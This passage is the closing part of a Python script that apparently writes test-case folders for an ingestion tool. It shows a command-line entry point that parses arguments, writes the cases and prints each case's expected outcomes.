    return [write_case(root, name, array_records) for name in names]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out", type=Path, help="folder to write into (created)")
    parser.add_argument("--only", nargs="+", metavar="CLASS", help="write only these classes")
    parser.add_argument(
        "--array-records", type=int, default=ARRAY_RECORDS, help="records in the JSON array class"
    )
    args = parser.parse_args(argv)
    cases = write_all(args.out, args.only, args.array_records)
    for case in cases:
        print(f"{case.name:24} {case.what}")
        for e in case.expect:
            words = f" ({', '.join(e.words)})" if e.words else ""
            count = f" ×{e.count}" if e.count != 1 else ""
            print(f"{'':26}{e.source}: {e.outcome}{count}{words}")
    print(f"\n{len(cases)} classes in {args.out}; ingest {args.out / 'tree'} as one run, "
          f"and each folder under {args.out / 'args'} on its own.")  # fmt: skip
    return 0


if __name__ == "__main__":
    sys.exit(main())
